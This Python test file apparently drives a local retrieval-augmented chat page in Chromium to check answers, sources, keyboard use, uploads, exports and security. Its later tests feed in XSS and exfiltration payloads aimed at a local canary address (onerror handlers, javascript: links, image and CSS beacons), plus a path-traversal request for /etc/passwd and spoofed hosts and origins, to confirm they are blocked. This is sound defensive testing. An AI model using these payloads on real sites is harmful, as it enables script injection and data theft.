"""The page in a real browser, over the real index: what a person sees and does, and what nobody else hears."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.error import HTTPError, URLError

import pytest

from assistant.home import Home
from index.generation import Generation
from tests.doubles import ScriptedHandler, says, scripted_server

ROOT = Path(__file__).parent.parent
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
FLAGS = ["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
ZH, EN = "怎样控制大模型创业的成本？", "How does quantization cut serving cost?"
NOTES = "# 董事会纪要\n\n## 预算\n\n红隼项目的预算是 417,000 欧元，到 2027 年 5 月结束。\n"

# Buttons and links that a screen reader could not name.
NAMELESS = """elements => elements.filter(e => e.offsetParent && !(e.ariaLabel || e.title || e.innerText.trim()))
    .map(e => e.outerHTML)"""

# An answer is read from its beginning: the end of a long one does not push it out of sight.
LAST_QUESTION_STANDS_ON_TOP = """() => {
    const top = element => element.getBoundingClientRect().top;
    const pane = document.querySelector('#chat .bubble-wrap'), last = [...pane.querySelectorAll('.user')].at(-1);
    return Math.abs(top(last) - top(pane)) < 40 || pane.scrollTop + pane.clientHeight >= pane.scrollHeight - 1;
}"""

LEAVING = re.compile("AbortError|Connection errored out")

pytestmark = pytest.mark.browser


@contextmanager
def page_served(home: Path, *options: str, **environment: str) -> Iterator[str]:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [sys.executable, "-m", "assistant.interfaces.cli", "chat", "--port", str(port), "--no-browser"]
    server = subprocess.Popen(
        [*command, "--home", str(home), *options], cwd=ROOT, stderr=subprocess.PIPE, env={**os.environ, **environment}
    )
    url = f"http://127.0.0.1:{port}"
    try:
        for _ in range(240):
            try:
                urllib.request.urlopen(f"{url}/healthz", timeout=2).close()
                break
            except (URLError, OSError):
                assert server.poll() is None, server.stderr.read().decode() if server.stderr else ""
                time.sleep(0.25)
        yield url
    finally:
        server.terminate()
        server.wait(30)
        if server.stderr:
            server.stderr.close()


@pytest.fixture(scope="module")
def page_home(shared_home: Home, generation: Generation, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home of these tests' own with the shipped collection, already indexed."""
    home = tmp_path_factory.mktemp("page") / "home"
    shutil.copytree(shared_home.folder / "collections" / "default", home / "collections" / "default")
    (home / "models").symlink_to(shared_home.models)
    return home


@pytest.fixture(scope="module")
def page_url(page_home: Path) -> Iterator[str]:
    with page_served(page_home, "--backend", "extractive") as url:
        yield url


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine (Debian: apt-get install chromium)")
    playwright = pytest.importorskip("playwright.sync_api")
    with playwright.sync_playwright() as session:
        chromium = session.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield chromium
        chromium.close()


class Visit:
    """A visitor of the page in one language, who notes every error and every host."""

    def __init__(self, browser: Any, url: str, *, locale: str = "zh-CN", width: int = 1440, height: int = 900) -> None:
        self.context = browser.new_context(viewport={"width": width, "height": height}, locale=locale)
        self.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=url)
        self.page = self.context.new_page()
        self.problems: list[str] = []
        self.hosts: set[str] = set()
        # Leaving a page ends its requests, which Gradio logs.
        self.page.on(
            "console",
            lambda m: self.problems.append(m.text) if m.type == "error" and not LEAVING.search(m.text) else None,
        )
        self.page.on("pageerror", lambda error: self.problems.append(str(error)))
        self.page.on("request", lambda r: self.hosts.add(r.url.split("/")[2]) if r.url.startswith("http") else None)
        self.open(url)

    def open(self, url: str) -> None:
        """Go there and wait until the page is connected: the first event has answered."""
        self.page.goto(url)
        self.page.wait_for_selector("#question textarea")
        self.page.wait_for_selector("#health p")

    def ask(self, question: str) -> None:
        """Type a question and wait for its answer."""
        self.page.fill("#question textarea", question)
        self.page.keyboard.press("Enter")
        self.answered(question)

    def answered(self, question: str) -> None:
        """Wait until the last turn is `question` and complete: only then what could be asked next is there."""
        self.page.wait_for_function(
            "q => [...document.querySelectorAll('#chat .user')].at(-1)?.innerText.includes(q.slice(0, 30)) &&"
            " document.querySelector('#chat .option')", arg=question, timeout=30_000
        )  # fmt: skip

    def bot(self) -> str:
        """The last answer."""
        return str(self.page.locator("#chat [data-testid=bot]").last.inner_text())

    def click_and_say(self, selector: str, said: str | None) -> None:
        """Click, and answer what the browser then asks: None says no."""
        asked: list[Any] = []
        self.page.once("dialog", lambda d: asked.append(d.dismiss() if said is None else d.accept(said)))
        self.page.click(selector)
        for _ in range(500):
            if asked:
                return
            self.page.wait_for_timeout(20)
        pytest.fail(f"{selector} asked nothing")

    def tab(self, name: str) -> None:
        """Open a tab."""
        self.page.get_by_role("tab", name=name).click()


@pytest.fixture
def visit(browser: Any, page_url: str) -> Iterator[Visit]:
    visit = Visit(browser, page_url)
    yield visit
    assert visit.problems == []
    assert visit.hosts == {page_url.split("/")[2]}
    visit.context.close()


@pytest.mark.parametrize(
    ("width", "height", "locale", "question", "word", "button"),
    [(1440, 900, "zh-CN", ZH, "成本", "提问"), (390, 844, "en-US", EN, "bits", "Ask")],
)
def test_a_question_is_answered_beside_its_marked_sources(
    browser: Any, page_url: str, width: int, height: int, locale: str, question: str, word: str, button: str
) -> None:
    visit = Visit(browser, page_url, locale=locale, width=width, height=height)
    assert visit.page.inner_text("#send") == button
    assert visit.page.evaluate("document.documentElement.lang") == locale[:2]
    visit.ask(question)
    assert word in visit.bot()
    assert "[1]" in visit.bot()
    assert visit.page.inner_text("#sources mark >> nth=0").strip()
    assert visit.page.input_value("#question textarea") == ""
    visit.page.wait_for_function(LAST_QUESTION_STANDS_ON_TOP)
    assert visit.page.evaluate("document.documentElement.scrollWidth") <= width
    nameless = (
        "e => e.filter(x => x.offsetParent && !(x.ariaLabel || x.title || x.innerText.trim())).map(x => x.outerHTML)"
    )
    assert visit.page.eval_on_selector_all("button, a", nameless) == []
    assert visit.problems == []
    assert visit.hosts == {page_url.split("/")[2]}
    visit.context.close()


def test_a_mark_opens_its_source_even_that_of_an_older_answer(visit: Visit) -> None:
    visit.ask(ZH)
    visit.ask("那推理呢？")
    assert "检索：" + ZH in visit.page.inner_text("#sources")
    first = visit.page.locator("#chat [data-testid=bot]").first.locator("a").first
    anchor = first.get_attribute("href").split("#")[1]
    first.click()
    visit.page.wait_for_function("id => document.activeElement.closest('details')?.id === id", arg=anchor)
    assert visit.page.locator(f"#{anchor} mark").first.inner_text()
    assert "检索：" not in visit.page.inner_text("#sources")


def test_everything_can_be_reached_and_done_with_the_keyboard(visit: Visit) -> None:
    visit.page.focus("#question textarea")
    visit.page.keyboard.type(ZH)
    visit.page.keyboard.press("Enter")
    visit.answered(ZH)
    for _ in range(40):
        visit.page.keyboard.press("Shift+Tab")
        if visit.page.evaluate("document.activeElement.matches('#chat a')"):
            break
    visit.page.keyboard.press("Enter")
    visit.page.wait_for_function("document.activeElement.matches('#sources summary')")
    was_open = visit.page.evaluate("document.activeElement.parentElement.open")
    visit.page.keyboard.press("Enter")
    assert visit.page.evaluate("document.activeElement.parentElement.open") != was_open


def test_a_conversation_outlives_a_reload_and_is_found_renamed_and_deleted(visit: Visit) -> None:
    visit.ask("管理优势该怎样建立？")
    visit.page.wait_for_function("location.search.includes('c=')")
    answer, address = visit.bot(), visit.page.url
    visit.page.reload()
    visit.page.wait_for_selector("#chat [data-testid=bot]")
    visit.page.wait_for_selector("#sources mark")
    assert (visit.bot(), visit.page.url) == (answer, address)
    visit.click_and_say("#rename", "给董事会的问题")
    visit.page.wait_for_selector("#listed a:has-text('给董事会的问题')")
    visit.page.click("#new")
    visit.page.wait_for_selector("#chat .example")
    visit.page.wait_for_function("!location.search")
    visit.page.fill("#search textarea, #search input", "给董事会")
    visit.page.wait_for_function("document.querySelectorAll('#listed a').length === 1")
    visit.page.click("#listed a")
    visit.page.wait_for_selector("#chat [data-testid=bot]")
    assert visit.bot() == answer
    visit.click_and_say("#delete", None)
    visit.click_and_say("#delete", "")
    visit.page.wait_for_selector("#chat .example")
    visit.page.wait_for_function("!location.search")
    visit.open(address)
    visit.page.wait_for_selector("#notice :text('没有这个对话')")


def test_a_question_can_be_asked_again_in_other_words_and_a_suggested_one_next(visit: Visit) -> None:
    visit.ask(EN)
    visit.page.locator("#chat").get_by_role("button", name="编辑").click()
    box = visit.page.locator("#chat textarea")
    box.fill(ZH)
    visit.page.locator("#chat").get_by_role("button", name="发送").click()
    visit.answered(ZH)
    assert visit.page.locator("#chat [data-testid=bot]").count() == 1
    mark = visit.page.get_attribute("#chat [data-testid=bot] a >> nth=0", "href")
    visit.page.locator("#chat").get_by_role("button", name="重试").click()
    visit.page.wait_for_selector(f"#chat [data-testid=bot] a:not([href='{mark}']) >> nth=0")
    visit.answered(ZH)
    suggested = visit.page.locator("#chat .option").first
    question = suggested.inner_text()
    suggested.click()
    visit.answered(question)
    assert visit.page.locator("#chat [data-testid=bot]").count() == 2


def test_a_rating_is_kept_and_goes_into_the_export(visit: Visit, tmp_path: Path) -> None:
    visit.ask(ZH)
    visit.page.locator("#chat").get_by_role("button", name="Feedback").click()
    visit.page.click("#chat >> text=来源不对")
    deadline = time.monotonic() + 10
    while True:
        with visit.page.expect_download() as started:
            visit.page.click("#exports >> text=JSON")
        turn = json.loads(Path(started.value.path()).read_text(encoding="utf-8"))["turns"][0]
        if turn["rating"] or time.monotonic() > deadline:
            break
    assert turn["rating"] == "wrong_source"
    assert turn["record"]["question"] == ZH
    with visit.page.expect_download() as started:
        visit.page.click("#exports >> text=Word")
    assert started.value.suggested_filename == ZH.replace("？", "？.docx")


def test_an_answer_is_copied_with_its_sources(visit: Visit) -> None:
    visit.ask(ZH)
    visit.page.click("#sources .copy")
    visit.page.wait_for_selector("#sources .copy:has-text('✓')")
    copied = visit.page.evaluate("navigator.clipboard.readText()")
    assert "[1]" in copied
    assert "来源" in copied
    assert " ".join(visit.page.inner_text("#sources mark >> nth=0").split()) in copied


def test_a_file_is_added_asked_about_looked_into_and_removed(visit: Visit, tmp_path: Path) -> None:
    (tmp_path / "纪要.md").write_text(NOTES, encoding="utf-8")
    (tmp_path / "坏.pdf").write_bytes(b"%PDF-1.4 broken")
    visit.tab("资料库")
    visit.page.set_input_files("#files input[type=file]", [str(tmp_path / "纪要.md"), str(tmp_path / "坏.pdf")])
    visit.page.wait_for_selector("#library-status :text('已加入：纪要.md')", timeout=60_000)
    assert "坏.pdf: 文件已损坏" in visit.page.inner_text("#library-status li")
    visit.tab("对话")
    visit.ask("红隼项目的预算是多少？")
    assert "417,000" in visit.bot()
    visit.tab("资料库")
    visit.page.fill("#find textarea, #find input", "红隼")
    visit.page.keyboard.press("Enter")
    visit.page.wait_for_selector("#found summary:has-text('董事会纪要')")
    visit.page.click("#document input")
    visit.page.get_by_role("option", name="你的 · 董事会纪要").click()
    visit.page.wait_for_selector("#shown summary:has-text('预算')")
    visit.click_and_say("#remove", "")
    visit.page.wait_for_selector("#library-status :text('已移除')", timeout=60_000)
    visit.tab("对话")
    visit.page.click("#new")
    visit.page.wait_for_selector("#chat .example")
    visit.page.fill("#question textarea", "红隼项目的预算是多少？")
    visit.page.keyboard.press("Enter")
    visit.page.wait_for_selector("#chat [data-testid=bot] >> text=资料中没有这个问题的答案", timeout=30_000)


def test_an_empty_question_gets_a_friendly_word_and_a_long_one_its_limit(visit: Visit) -> None:
    for question, answer in (("?", "请输入一个问题"), ("成本" * 3000, "问题太长")):
        visit.page.fill("#question textarea", question)
        visit.page.click("#send")
        visit.page.wait_for_selector(f"#notice :text({answer!r})", timeout=20_000)
        visit.page.wait_for_function("q => document.querySelector('#question textarea').value === q", arg=question)
    visit.ask(ZH)
    assert not visit.page.is_visible("#notice")


def test_the_other_language_shows_the_same_conversation_and_is_remembered(visit: Visit, page_url: str) -> None:
    visit.ask(ZH)
    answer = visit.bot()
    visit.page.click("a.language")
    visit.page.wait_for_selector("#chat [data-testid=bot]")
    assert "/en/?c=" in visit.page.url
    assert visit.page.inner_text("#send") == "Ask"
    assert visit.bot() == answer
    visit.open(page_url)
    assert visit.page.inner_text("#send") == "Ask"


class _Listens(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.heard.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        """Keep quiet."""


@contextmanager
def canary() -> Iterator[tuple[str, list[str]]]:
    """An address that must hear nothing."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Listens)
    server.daemon_threads = True
    server.heard = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", server.heard  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


ATTACKS = """Quantization cuts serving cost by storing each weight in fewer bits. ![x]({url}/md?q=secret)
![y][r] <img src=x onerror="window.hit=1"><img srcset="{url}/srcset 1x"> <svg onload="window.hit=1"></svg>
<form action="{url}/form"><input type=password></form><div style="position:fixed;background:url({url}/css)">over</div>
<video poster="{url}/poster"></video> <script>window.hit=1</script> [click](javascript:window.hit=1) <{url}/auto>
```mermaid
click A "javascript:window.hit=1"
```
[1](#s-1-1) $$\\href{{javascript:window.hit=1}}{{x}}$$

[r]: {url}/reference.png
"""


# What none of the answers, questions or sources may hold.
LIVE = ("img", "svg image", "form", "input", "video", "script", "iframe", "[style*=fixed]", ".katex")


def test_what_a_model_or_an_asker_writes_does_nothing_and_calls_nobody(browser: Any, page_home: Path) -> None:
    with (
        canary() as (url, heard),
        scripted_server(says(ATTACKS.format(url=url))) as (model, _),
        page_served(page_home, "--backend", "vllm", ASSISTANT_BASE_URL=model) as page_url,
    ):
        visit = Visit(browser, page_url, locale="en-US")
        visit.ask(" ".join(ATTACKS.format(url=url).split()))
        visit.ask(EN)
        for _ in range(2):
            for writer in ("user", "bot"):
                visit.page.wait_for_selector(f"#chat [data-testid={writer}] >> text=onerror")
            for tag in LIVE:
                assert visit.page.locator(f"#chat [data-testid] {tag}, #sources {tag}").count() == 0, tag
            links = visit.page.eval_on_selector_all("#chat [data-testid] a, #sources a", "e => e.map(a => a.hash)")
            assert all(link.startswith("#s-") for link in links)
            assert visit.page.evaluate("window.hit") is None
            visit.page.reload()
        assert visit.hosts == {page_url.split("/")[2]}
        visit.context.close()
    assert heard == []


def dawdles(handler: ScriptedHandler, body: dict[str, Any]) -> None:
    """Write a sentence, then on and on."""
    handler.begin_stream()
    handler.piece("Quantization cuts serving cost by storing each weight in fewer bits. And ")
    with contextlib.suppress(OSError):  # the reader went away
        for _ in range(0 if body["max_tokens"] == 1 else 300):
            handler.piece("then ")
            time.sleep(0.1)
        handler.end_stream()


def test_a_stopped_answer_is_kept_as_far_as_it_came(browser: Any, page_home: Path) -> None:
    with (
        scripted_server(dawdles) as (model, _),
        page_served(page_home, "--backend", "vllm", ASSISTANT_BASE_URL=model) as page_url,
    ):
        visit = Visit(browser, page_url, locale="en-US")
        visit.page.fill("#question textarea", EN)
        visit.page.keyboard.press("Enter")
        visit.page.wait_for_selector("#chat [data-testid=bot] >> text=then then")
        visit.page.click("#stop")
        visit.page.wait_for_selector("#notice >> text=what had come is kept")
        visit.page.fill("#question textarea", "And how much memory?")
        visit.page.keyboard.press("Enter")
        visit.page.wait_for_selector("#chat [data-testid=user] >> text=And how much memory?")
        visit.page.wait_for_selector("#chat [data-testid=bot] >> nth=1 >> text=then then")
        visit.page.click("#stop")
        visit.page.wait_for_selector("#notice >> text=what had come is kept")
        visit.page.reload()
        visit.page.wait_for_selector("#chat [data-testid=bot] >> text=This answer was not finished")
        assert "fewer bits." in visit.bot()
        visit.context.close()


@pytest.mark.parametrize(
    ("path", "headers", "body", "status"),
    [
        ("/", {"Host": "evil.example"}, None, 400),
        ("/en/gradio_api/file=https://example.org/", {}, None, 403),
        ("/zh/gradio_api/file=/etc/passwd", {}, None, 403),
        ("/en/gradio_api/file=corpus/papers.toml", {}, None, 403),
        ("/zh/openapi.json", {}, None, 403),
        ("/en/gradio_api/run/ask", {"Content-Type": "application/json"}, b'{"data": ["cost?", ""]}', 403),
        ("/zh/gradio_api/queue/join", {"Origin": "https://evil.example"}, b"{}", 403),
    ],
)
def test_what_is_not_for_the_page_is_closed(
    page_url: str, path: str, headers: dict[str, str], body: bytes | None, status: int
) -> None:
    with pytest.raises(HTTPError) as caught:
        urllib.request.urlopen(urllib.request.Request(page_url + path, body, headers), timeout=10)
    caught.value.close()
    assert caught.value.code == status


def test_headers_keep_foreign_content_out(page_url: str) -> None:
    request = urllib.request.Request(page_url, headers={"Origin": "https://evil.example"})
    with urllib.request.urlopen(request, timeout=10) as response:
        assert "default-src 'self'" in response.headers["Content-Security-Policy"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "Access-Control-Allow-Origin" not in response.headers


def test_a_connection_that_never_asks_is_closed(page_url: str) -> None:
    host, port = page_url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=30) as silent:
        assert silent.recv(1) == b""


def test_a_huge_body_is_refused(page_url: str) -> None:
    body = b"x" * (3 * 2**20)
    request = urllib.request.Request(f"{page_url}/en/gradio_api/queue/join", body, method="POST")
    with pytest.raises((HTTPError, URLError, ConnectionError)) as caught:
        urllib.request.urlopen(request, timeout=20)
    if isinstance(caught.value, HTTPError):
        caught.value.close()
        assert caught.value.code == 413
